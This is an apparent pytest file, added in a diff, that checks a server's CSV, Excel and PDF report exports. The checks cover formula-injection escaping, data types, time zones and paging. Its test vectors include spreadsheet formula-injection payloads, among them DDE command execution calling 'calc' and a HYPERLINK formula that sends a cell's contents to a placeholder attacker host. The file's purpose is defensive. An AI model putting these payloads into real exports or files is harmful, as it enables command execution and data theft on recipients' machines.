@@ -1,0 +1,166 @@
+"""Tables as files, read back: types are kept, and no text becomes a formula."""
+
+import csv
+import datetime as dt
+import io
+from typing import Any
+
+import openpyxl
+import pytest
+
+from server.documents.report_sheet import report_sheet
+from server.insights.reports.files import Sheet, csv_file, made, printable, xlsx_file
+from server.insights.reports.table import Table, TableColumn
+from tests.documents.reading import text_of
+
+NOON = int(dt.datetime(2026, 7, 1, 11, 0, tzinfo=dt.UTC).timestamp() * 1000)
+# The sign at the beginning as OWASP lists them, with what each has been used for.
+VECTORS = (
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Error")',
+    "+1+1|'x'!A0",
+    "-2+3+cmd|'/C calc'!A0",
+    "@SUM(1+9)*cmd|'/C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "\uff1d1+1",
+    "{=1+1}",
+    '=1";=1',
+    "http://evil.example",
+    "+44 113 496 0000 x",
+)
+BEGINNINGS = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+PLAIN = ("Mill Lane 1", 'O\'Neill; Sons, "Ltd"', "木材商行", "", "two\r\nlines")
+
+
+def sheet(columns: list[TableColumn], rows: list[list[Any]], lang: Any = "en") -> Sheet:
+    table = Table(columns, rows, False, "", NOON, NOON + 1, "Europe/London")
+    return Sheet("Sales", table, lang, NOON)
+
+
+def texts(values: tuple[str, ...]) -> Sheet:
+    return sheet([TableColumn("=Customer", "text")], [[v] for v in values])
+
+
+def read_csv(content: bytes) -> list[list[str]]:
+    assert content.startswith(b"\xef\xbb\xbf")
+    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
+
+
+def read_xlsx(content: bytes) -> list[tuple[Any, ...]]:
+    page = openpyxl.load_workbook(io.BytesIO(content)).active
+    return list(page.iter_rows())
+
+
+@pytest.mark.parametrize("text", VECTORS)
+def test_no_cell_of_a_csv_begins_a_formula(text: str) -> None:
+    head, row = read_csv(csv_file(texts((text,))))
+    assert head == ["'=Customer"]
+    assert row[0].lstrip("'") == text
+    assert row[0][0] not in BEGINNINGS
+
+
+@pytest.mark.parametrize("text", VECTORS)
+def test_every_text_in_excel_is_text_and_stays_so_when_it_is_edited(text: str) -> None:
+    (head,), (cell,) = read_xlsx(xlsx_file(texts((text,))))
+    assert (head.data_type, cell.data_type) == ("s", "s")
+    assert cell.value.replace("_x000D_", "\r") == text
+    assert cell.hyperlink is None
+    assert bool(cell.quotePrefix) == (text[0] in BEGINNINGS)
+
+
+def test_without_the_guard_the_same_file_would_hold_a_formula() -> None:
+    """The twin that must fail: written as it comes, the first vector is a formula."""
+    out = io.BytesIO()
+    book = openpyxl.Workbook()
+    book.active["A1"] = VECTORS[0]
+    book.save(out)
+    ((cell,),) = read_xlsx(out.getvalue())
+    assert cell.data_type == "f"
+
+
+def test_plain_text_goes_through_a_csv_as_it_is() -> None:
+    assert [row[0] for row in read_csv(csv_file(texts(PLAIN)))[1:]] == list(PLAIN)
+
+
+def test_a_csv_ends_its_lines_as_rfc_4180_says() -> None:
+    assert csv_file(texts(('a"b', "c,d"))).endswith(b'"a""b"\r\n"c,d"\r\n')
+
+
+COLUMNS = [
+    TableColumn("Placed", "moment"),
+    TableColumn("Day", "date"),
+    TableColumn("Month", "month"),
+    TableColumn("Pieces", "whole"),
+    TableColumn("Share", "number"),
+    TableColumn("Total", "money"),
+    TableColumn("Late", "flag"),
+    TableColumn("Number", "text"),
+    TableColumn("Large", "whole"),
+]
+ROW = [NOON, "2026-07-01", "2026-07", 12, -0.5, 1234.5, 1, "0042", 2**60]
+
+
+def test_a_csv_tells_moments_by_the_sites_clock() -> None:
+    head, row = read_csv(csv_file(sheet(COLUMNS, [ROW])))
+    assert head[0] == "Placed (Europe/London)"
+    assert row[0] == "2026-07-01 12:00:00"
+    assert row[1:] == [
+        "2026-07-01",
+        "2026-07",
+        "12",
+        "-0.5",
+        "1234.5",
+        "1",
+        "0042",
+        str(2**60),
+    ]
+
+
+def by_the_wall(hour: int) -> dt.datetime:
+    """Of 1 July: a spreadsheet knows no zones."""
+    return dt.datetime(2026, 7, 1, hour, tzinfo=dt.UTC).replace(tzinfo=None)
+
+
+def test_excel_is_given_numbers_dates_and_truth_as_such() -> None:
+    _, row = read_xlsx(xlsx_file(sheet(COLUMNS, [ROW])))
+    assert [cell.value for cell in row] == [
+        by_the_wall(12),
+        by_the_wall(0),
+        by_the_wall(0),
+        12,
+        -0.5,
+        1234.5,
+        True,
+        "0042",
+        str(2**60),  # as a number it would lose its last digits
+    ]
+    assert row[0].is_date
+    assert row[7].data_type == "s"
+
+
+def test_what_has_no_value_is_an_empty_cell() -> None:
+    nothing = sheet(COLUMNS, [[None] * len(COLUMNS)])
+    assert set(read_csv(csv_file(nothing))[1]) == {""}
+    assert len(read_xlsx(xlsx_file(nothing))) == 1  # the head alone
+
+
+def test_a_pdf_says_what_is_in_the_table_in_chinese_too() -> None:
+    text = text_of(
+        made(sheet(COLUMNS, [[*ROW[:7], "木材商行 #panic()", 7]], "zh-Hant"), "pdf", report_sheet)
+    )
+    for part in ("木材商行 #panic()", "2026-07-01 12:00", "1,234.50", "是", "期間"):
+        assert part in text
+
+
+def test_a_pdf_of_many_rows_has_its_head_on_each_page() -> None:
+    rows = [[f"C{n:03}" + "x" * 60] for n in range(120)]
+    text = text_of(made(sheet([TableColumn("Customer", "text")], rows), "pdf", report_sheet))
+    assert text.count("Customer") >= 3
+    assert "C119" in text
+
+
+def test_an_empty_report_says_so_on_paper() -> None:
+    assert printable(sheet(COLUMNS, [])).note == "Nothing in this period."
